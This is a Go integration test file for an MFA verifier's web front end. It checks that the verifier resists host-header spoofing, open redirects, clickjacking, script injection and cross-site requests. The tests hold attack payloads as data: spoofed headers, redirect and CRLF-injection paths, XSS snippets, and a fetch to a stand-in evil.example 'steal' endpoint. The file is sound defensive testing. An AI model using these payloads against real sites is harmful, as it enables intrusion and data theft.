// SPDX-License-Identifier: Apache-2.0

//go:build integration

package integration_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/dom"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/sallyport-mfa/sallyport/test/integration/browser"
)

// webPaths are addresses of pages, one of each kind.
var webPaths = []string{"/", "/app/lost", "/app/nothing-here", "/enroll/", "/sallyport/activate", "/app/"}

// httpClient is an HTTP client that reaches the verifier by name, trusts its authority
// and follows no redirect.
func (s *site) httpClient(t *testing.T) *http.Client {
	t.Helper()
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM([]byte(s.ca(t))) {
		t.Fatal("the verifier's authority is no certificate")
	}
	dial := s.dialVerifier(t)
	transport := &http.Transport{
		TLSClientConfig:   &tls.Config{RootCAs: roots},
		ForceAttemptHTTP2: true,
		DialContext:       func(context.Context, string, string) (net.Conn, error) { return dial() },
	}
	t.Cleanup(transport.CloseIdleConnections)
	return &http.Client{
		Transport:     transport,
		Timeout:       time.Minute,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}
}

// ask sends a request and returns the answer with its body read.
func ask(t *testing.T, client *http.Client, method, address string, change func(*http.Request)) (*http.Response, string) {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), method, address, nil)
	must(t, err)
	if change != nil {
		change(r)
	}
	response, err := client.Do(r)
	must(t, err)
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	must(t, err)
	return response, string(body)
}

// Under another name than its own the verifier shows no page, and what proxies say
// about the name it does not believe.
func TestWebHostHeader(t *testing.T) {
	t.Parallel()
	s := webTown(t)
	client := s.httpClient(t)
	for _, path := range webPaths {
		for _, host := range []string{"evil.example", "evil.example:8443", webName, webName + ":8444", webName + ".evil.example:8443", "127.0.0.1:8443"} {
			response, body := ask(t, client, http.MethodGet, webURL+path, func(r *http.Request) { r.Host = host })
			if response.StatusCode != http.StatusMisdirectedRequest {
				t.Errorf("%s under the name %s: status %d, want 421", path, host, response.StatusCode)
			}
			if strings.Contains(body, "href") || strings.Contains(body, host) {
				t.Errorf("%s under the name %s: the page has a link or the name: %s", path, host, body)
			}
		}
		response, body := ask(t, client, http.MethodGet, webURL+path, func(r *http.Request) {
			for _, name := range []string{"X-Forwarded-Host", "X-Host", "X-Original-Host", "X-Forwarded-Server", "Forwarded"} {
				r.Header.Set(name, "evil.example")
			}
			r.Header.Set("X-Original-URL", "/evil-path")
		})
		if strings.Contains(body, "evil") || strings.Contains(response.Header.Get("Location"), "evil") {
			t.Errorf("%s: the answer repeats what a proxy's header says: %s", path, body)
		}
	}
}

// Every page comes with the headers that keep other sites out.
func TestWebHeaders(t *testing.T) {
	t.Parallel()
	s := webTown(t)
	client := s.httpClient(t)
	for _, path := range webPaths {
		response, body := ask(t, client, http.MethodGet, webURL+path, nil)
		policy := response.Header.Get("Content-Security-Policy")
		for _, directive := range []string{"default-src 'none'", "script-src 'self'", "style-src 'self'", "form-action 'self'",
			"frame-ancestors 'none'", "base-uri 'none'", "require-trusted-types-for 'script'"} {
			if !strings.Contains(policy+";", directive+";") {
				t.Errorf("%s: the policy lacks %q: %s", path, directive, policy)
			}
		}
		for _, unsafe := range []string{"unsafe-inline", "unsafe-eval", "unsafe-hashes", "nonce-", "http:", "*"} {
			if strings.Contains(policy, unsafe) {
				t.Errorf("%s: the policy allows %q: %s", path, unsafe, policy)
			}
		}
		for name, want := range map[string]string{
			"X-Content-Type-Options":       "nosniff",
			"Referrer-Policy":              "no-referrer",
			"Cross-Origin-Opener-Policy":   "same-origin",
			"Cross-Origin-Resource-Policy": "same-origin",
		} {
			if got := response.Header.Get(name); got != want {
				t.Errorf("%s: %s is %q, want %q", path, name, got, want)
			}
		}
		if !strings.Contains(response.Header.Get("Strict-Transport-Security"), "max-age=") {
			t.Errorf("%s: no Strict-Transport-Security", path)
		}
		if cookies := response.Header.Values("Set-Cookie"); len(cookies) > 0 {
			t.Errorf("%s: a page that only shows sets a cookie: %q", path, cookies)
		}
		if origin := response.Header.Get("Access-Control-Allow-Origin"); origin != "" {
			t.Errorf("%s: other origins may read the page: %s", path, origin)
		}
		for _, inline := range []string{"<script>", "<style", " style=", "javascript:", " onclick=", " onload="} {
			if strings.Contains(body, inline) {
				t.Errorf("%s: the page has %q in line", path, inline)
			}
		}
	}
}

// No address makes the verifier send somebody to another site.
func TestWebOpenRedirect(t *testing.T) {
	t.Parallel()
	s := webTown(t)
	client := s.httpClient(t)
	own, err := url.Parse(webURL)
	must(t, err)
	for _, target := range []string{
		"//evil.example", "//evil.example/%2e%2e", "///evil.example//", "/%5cevil.example", "/%2f%2fevil.example", "/app//evil.example/..",
		"/app/../..//evil.example", "/enroll//evil.example/..", "/static//evil.example/..", "/sallyport//evil.example/..",
		"/app/?next=https://evil.example", "/app/lost?return=//evil.example", "/enroll/?url=https://evil.example", "/?redirect_uri=https://evil.example",
		"/app?u=https://evil.example", "/app", "/enroll", "/static", "/sallyport/activate?next=https://evil.example", "/app/%0d%0aLocation:%20https://evil.example",
	} {
		response, body := ask(t, client, http.MethodGet, webURL, func(r *http.Request) {
			path, query, _ := strings.Cut(target, "?")
			r.URL.Opaque, r.URL.RawQuery = "//"+webName+":8443"+path, query
		})
		if location := response.Header.Get("Location"); location != "" {
			to, err := own.Parse(location)
			if err != nil || to.Host != own.Host || to.Scheme != "https" {
				t.Errorf("%s leads to %s", target, location)
			}
		}
		if strings.Contains(body, "//evil.example") {
			t.Errorf("%s: the page repeats the address: %s", target, body)
		}
	}
}

// Another site's page cannot show a page of the verifier in a frame.
func TestWebClickjacking(t *testing.T) {
	t.Parallel()
	s := webTown(t)
	b := s.browser(t)
	b.Forgive("status of 404 ()")
	tab := b.Tab()
	for _, path := range webPaths {
		tab.Go("data:text/html,<!doctype html><title>trap</title><h1>Win a prize</h1>")
		tab.Run(`new Promise((done) => {
			const frame = document.createElement('iframe');
			frame.src = `+"`"+webURL+path+"`"+`;
			frame.onload = () => done(true);
			document.body.append(frame);
		})`, nil)
		tree, err := chromedp.Call(tab.Context(), page.GetFrameTree, cdp.Empty{})
		must(t, err)
		for _, child := range tree.FrameTree.ChildFrames {
			if strings.HasPrefix(child.Frame.URL, webURL) && child.Frame.UnreachableURL == "" {
				t.Errorf("%s is shown in another page's frame", path)
			}
		}
		refused := strings.Join(b.Errors(), "\n")
		if !strings.Contains(refused, "frame-ancestors") {
			t.Errorf("%s: the browser did not name the policy as the reason: %s", path, refused)
		}
	}
}

// What somebody manages to put into a page as HTML does not run, loads nothing from
// elsewhere and sends nothing there.
func TestWebInjectedScript(t *testing.T) {
	t.Parallel()
	s := webTown(t)
	network := s.network(t)
	// Chromium opens the connection for a form before it asks the policy, which then
	// keeps the form.
	network.Route("form.example:443", func() (net.Conn, error) { return nil, errors.New("nobody is there") })
	b := browser.Start(t, browser.Options{CA: s.ca(t), Network: network})
	b.Forgive("status of 404 ()")
	tab := b.Tab()
	for _, path := range webPaths {
		tab.Go(webURL + path)
		inject(tab, `<p id="injected">injected <img src="/nowhere.png" onerror="window.ran = 'handler'"><a href="javascript:window.ran='address'">x</a>`+
			`<script>window.ran = 'script'</script><script src="https://evil.example/x.js"></script><img src="https://evil.example/x.png">`+
			`<style>h1 { display: none }</style><base href="https://evil.example/"><form action="https://form.example/"><button>send</button></form></p>`)
		tab.See("injected")
		// Scripts that HTML brings in by innerHTML do not run anywhere; those that the page's
		// own code makes would.
		for _, attempt := range []string{
			`document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = "made"'}))`,
			`document.body.innerHTML += '<img src=x onerror="window.ran = 1">'`,
			`eval('window.ran = "eval"')`,
			`setTimeout('window.ran = "timeout"', 0)`,
			`document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/y.js'}))`,
		} {
			_ = tab.TryRun(`(() => { try { new Promise(() => { `+attempt+` }) } catch {} return true })()`, nil)
		}
		tab.Run(`document.querySelector('#injected a').click(), true`, nil)
		tab.Run(`fetch('https://evil.example/steal').then(() => { window.ran = 'fetch' }, () => true)`, nil)
		tab.Run(`document.querySelector('#injected + form button, #injected form button, form button')?.click(), new Promise((done) => setTimeout(() => done(true), 200))`, nil)
		var ran string
		tab.Run(`String(window.ran ?? '')`, &ran)
		if ran != "" {
			t.Errorf("%s: a script ran that was not the page's own: %s", path, ran)
		}
		if at := tab.URL(); !strings.HasPrefix(at, webURL) {
			t.Errorf("%s: the page went to %s", path, at)
		}
		reported := strings.Join(b.Errors(), "\n")
		for _, directive := range []string{"script-src", "style-src", "img-src", "connect-src", "base-uri", "form-action", "TrustedScript"} {
			if !strings.Contains(reported, directive) {
				t.Errorf("%s: the browser named no violation of %s: %s", path, directive, reported)
			}
		}
	}
	// That evil.example was not asked for is checked when the browser closes.
}

// inject puts HTML into the page past its own protection, as a bug of the page would.
func inject(tab *browser.Tab, html string) {
	tab.Await("the injection", func() bool {
		document, err := chromedp.Call(tab.Context(), dom.GetDocument, dom.GetDocumentParams{})
		if err != nil {
			return false
		}
		heading, err := chromedp.Call(tab.Context(), dom.QuerySelector, dom.QuerySelectorParams{NodeID: document.Root.NodeID, Selector: "main h1"})
		if err != nil || heading.NodeID == 0 {
			return false
		}
		_, err = chromedp.Call(tab.Context(), dom.SetOuterHTML, dom.SetOuterHTMLParams{NodeID: heading.NodeID, OuterHTML: html})
		return err == nil
	})
}

// Requests that change something and come from another site's page are refused, and
// the API tells such pages nothing.
func TestWebCrossSite(t *testing.T) {
	t.Parallel()
	s := webTown(t)
	client := s.httpClient(t)
	for _, from := range []http.Header{
		{"Origin": {"https://evil.example"}},
		{"Origin": {"null"}},
		{"Sec-Fetch-Site": {"cross-site"}},
		{"Sec-Fetch-Site": {"same-site"}, "Origin": {"https://other.example:8443"}},
		{"Origin": {"https://verifier.example"}},
	} {
		for _, path := range []string{"/sallyport/v1/authenticator/self", "/sallyport/v1/authenticator/transactions"} {
			response, _ := ask(t, client, http.MethodOptions, webURL+path, func(r *http.Request) {
				r.Header = from.Clone()
				r.Header.Set("Access-Control-Request-Method", "POST")
				r.Header.Set("Access-Control-Request-Headers", "Authorization, Content-Type")
			})
			for _, name := range []string{"Access-Control-Allow-Origin", "Access-Control-Allow-Credentials"} {
				if value := response.Header.Get(name); value != "" {
					t.Errorf("%s from %v: %s is %q", path, from, name, value)
				}
			}
		}
	}
}
